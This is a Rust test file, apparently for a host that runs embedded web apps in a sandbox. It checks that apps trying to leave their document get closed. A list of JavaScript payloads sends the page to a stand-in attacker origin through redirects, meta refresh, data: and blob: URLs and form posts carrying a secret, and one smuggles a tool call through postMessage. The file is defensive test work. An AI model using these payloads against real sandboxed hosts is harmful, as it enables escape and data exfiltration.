//! Apps that leave their document: the host closes them, and nothing is fetched from their target.

use crate::rig::TIMEOUT;

use super::Scene;

/// Ways to leave; `{}` is the attacker's site.
const WAYS: &[&str] = &[
    "location = '{}/location'",
    "location.replace('{}/replace')",
    "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0;url={}/refresh\">')",
    "document.body.append(Object.assign(document.createElement('a'), { href: '{}/anchor' })), document.querySelector('a').click()",
    "location = 'data:text/html,<script>parent.postMessage({jsonrpc:\"2.0\",id:1,method:\"tools/call\",params:{name:\"inner\"}},\"*\")</script>'",
    "location = URL.createObjectURL(new Blob(['<img src={}/blob>'], { type: 'text/html' }))",
    "location = 'about:blank'",
    "document.body.innerHTML = '<form action=\"{}/form\" method=post>', document.forms[0].submit()",
    "document.body.innerHTML = '<form action=\"{}/get\"><input name=a value=secret>', document.forms[0].submit()",
];

#[tokio::test]
async fn an_app_that_leaves_its_document_is_closed() {
    let scene = Scene::start().await;
    let before = scene.page("still").await;
    let address = before.0.url();
    drop(before);
    for way in WAYS {
        let (page, view) = scene.page("still").await;
        let script = way.replace("{}", &scene.evil.origin());
        // The document may be gone before it can confirm that the script ran.
        let _ = view.eval(&format!("setTimeout(() => {{ {script} }}, 0)")).await;
        let closed =
            page.wait_for("document.querySelector('main').dataset.appStatus === 'failed'", TIMEOUT).await;
        assert!(closed.is_ok(), "{way}: {closed:?}, {:?}", page.frames());
        assert_eq!(page.url(), address, "{way}");
        let frames: Vec<_> = page.frames().into_iter().map(|frame| frame.url).collect();
        assert!(
            !frames
                .iter()
                .any(|url| url.starts_with("data:") || url.contains("/blob") || url.starts_with("blob:")),
            "{way}: {frames:?}"
        );
        println!("  {way:60.60} closed");
    }
    assert_eq!(scene.evil.hits(), [""; 0]);
    let calls: Vec<_> = scene.server.calls().into_iter().filter(|call| call["name"] == "inner").collect();
    assert!(calls.is_empty(), "{calls:?}");
}
